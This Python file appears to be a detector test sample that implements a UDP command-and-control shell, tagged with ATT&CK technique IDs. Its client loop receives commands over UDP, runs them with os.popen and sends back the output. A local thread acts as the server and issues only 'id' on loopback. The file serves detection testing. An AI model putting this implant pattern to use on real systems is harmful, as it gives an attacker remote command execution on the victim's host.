# technique: T1059.004 T1095
"""Command shell over UDP datagrams (T1059.004, T1095).

Connection-less C2 as in several CTF/red-team UDP shells: the implant sends a
hello datagram, receives a command with recvfrom, runs it with os.popen and
sends the output back with sendto. No TCP connection and no fd redirection.

A good detector raises a high alert: data received from the network is run
as a shell command.
"""
import os, socket, threading

srv = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); srv.bind(("127.0.0.1", 0)); srv.settimeout(3)
addr = srv.getsockname()
def c2():
    try:
        _, peer = srv.recvfrom(100)
        srv.sendto(b"id", peer)
        srv.recvfrom(65536)
        srv.sendto(b"!quit", peer)
    except Exception: pass
threading.Thread(target=c2, daemon=True).start()
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    s.sendto(b"hello", addr)
    for _ in range(3):
        cmd, _ = s.recvfrom(4096)
        if cmd == b"!quit":
            break
        s.sendto(os.popen(cmd.decode()).read().encode() or b"-", addr)
except Exception:
    pass
